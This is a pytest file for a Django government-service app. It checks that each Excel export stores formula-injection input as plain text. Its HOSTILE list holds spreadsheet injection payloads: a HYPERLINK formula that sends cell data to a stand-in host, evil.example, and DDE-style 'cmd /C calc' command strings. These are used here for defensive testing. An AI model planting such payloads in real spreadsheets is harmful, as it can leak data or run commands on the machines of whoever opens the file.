"""Every .xlsx export keeps hostile text as text (formula injection) and never 500s on lazy text.

A name, a title or a description that starts with ``= + - @`` (or a tab) would run as a formula
when an official opens the table in Excel or WPS; each export below is fed such text through the
real services and opened back.
"""

import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from govhall.attendance import exports as attendance_exports
from govhall.attendance.selectors import FIGURE_KEYS, MonthlyTable, TableRow
from govhall.cases.models import Case
from govhall.cases.selectors import cases_to_xlsx
from govhall.core.roles import Role
from govhall.core.spreadsheets import FORMULA_STARTS
from govhall.performance.documents import tables_xlsx
from govhall.supervision import exports as supervision_exports
from govhall.supervision import services as supervision
from govhall.supervision.models import Phase
from tests.cases.factories import accept
from tests.factories import ServiceItemFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def _text_cells(content: bytes) -> list[str]:
    """Every text cell of every sheet; a formula cell fails the test at once."""
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for line in sheet.iter_rows():
            for c in line:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} is a formula: {c.value}"
                if isinstance(c.value, str):
                    texts.append(c.value)
    return texts


def assert_neutralised(content: bytes, hostile: list[str]) -> None:
    """No text cell starts a formula, and each hostile text is there behind its apostrophe
    (services strip surrounding blanks, so a leading tab may have gone before the export)."""
    texts = _text_cells(content)
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    kept = {t[1:].strip() for t in texts if t.startswith("'")}
    for text in hostile:
        assert text.strip() in kept, f"{text!r} missing from the export"


def test_case_export_page_answers_for_provisional_and_late_cases(
    client, center, department, make_user
):
    """The demo's cases (a deadline in a year without calendar data, a late completion) made
    the page 500: the lazy "是" reached openpyxl."""
    item = ServiceItemFactory(center=center, department=department, promised_limit_days=5)
    provisional = accept(item, day=dt.date(2026, 12, 28))
    assert provisional.due_provisional
    Case.objects.filter(pk=provisional.pk).update(completed_late=True)
    for role in (Role.CENTER_ADMIN, Role.LEADER, Role.INSPECTOR):
        client.force_login(make_user(role))
        response = client.get(reverse("cases:export"))
        assert response.status_code == 200, role
        rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
        assert rows[1].count("是") == 2


def test_case_export_neutralises_formulas(center, department):
    item = ServiceItemFactory(center=center, department=department)
    for name in HOSTILE:
        accept(item, applicant_name=name)
    assert_neutralised(cases_to_xlsx(Case.objects.all()), HOSTILE)


def test_supervision_progress_neutralises_formulas(admin_user, center, department, make_user):
    today = timezone.localdate()
    campaign = supervision.create_campaign(
        actor=admin_user,
        center_id=center.pk,
        title=HOSTILE[0],
        issuer="县政府办公室",
        issued_on=today,
        phase_ends={
            kind: today + dt.timedelta(days=30 * n) for n, kind in enumerate(Phase.ORDER, 1)
        },
        department_ids=[department.pk],
        towns=[],
    )
    unit = campaign.units.get()
    lead = make_user(Role.UNIT_LEAD, department=department)
    for text in HOSTILE[1:]:
        supervision.create_problem(
            actor=lead,
            unit=unit,
            category=campaign.categories.first(),
            description=text,
            measure=text,
        )
    content = supervision_exports.progress_workbook(campaign=campaign, on=today)
    assert_neutralised(content, HOSTILE[1:])
    assert any(t.startswith("'" + HOSTILE[0]) for t in _text_cells(content))


def test_attendance_table_neutralises_formulas():
    figures = dict.fromkeys(FIGURE_KEYS, 0)
    rows = [TableRow(label=t, department=t, staff_number=t, figures=figures) for t in HOSTILE]
    table = MonthlyTable(
        start=dt.date(2026, 10, 1),
        end=dt.date(2026, 10, 31),
        staff_rows=rows,
        department_rows=rows,
        total=figures,
    )
    assert_neutralised(attendance_exports.monthly_workbook(table, center_name="中心"), HOSTILE)


def test_performance_tables_neutralise_formulas_and_keep_numbers():
    content = tables_xlsx(
        [("排名", "排名表", ["名次", "单位", "总分"], [[1, t, -2.5] for t in HOSTILE])]
    )
    assert_neutralised(content, HOSTILE)
    sheet = load_workbook(io.BytesIO(content)).active
    assert [c.value for c in sheet["C"][2:]] == [-2.5] * len(HOSTILE)
